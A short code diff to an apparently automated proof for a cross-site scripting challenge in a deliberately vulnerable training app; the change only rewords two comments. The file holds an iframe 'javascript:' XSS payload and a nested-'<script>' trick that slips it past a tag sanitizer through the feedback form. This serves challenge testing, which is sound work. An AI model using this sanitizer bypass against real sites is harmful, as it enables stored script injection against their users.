@@ -3,7 +3,7 @@ import { type Attack, prove } from '@fruit/challenge-kit/proof'
 import { challenge } from './challenge.ts'
 
 const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'
-/** The payload behind its bracket. */
+/** The payload without its opening bracket. */
 const REST = PAYLOAD.slice(1)
 
 const say =
@@ -13,7 +13,7 @@ const say =
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // What comes back of a tag that is not welcome tells what the server does to it.
+    // The stored text shows how the sanitizer changes forbidden tags.
     await say('Crisp <script>Foo</script>and <i>cold</i>.')(attacker)
     await say(`<<script>Foo</script>${REST}`)(attacker)
     await attacker.get('/api/Feedbacks')
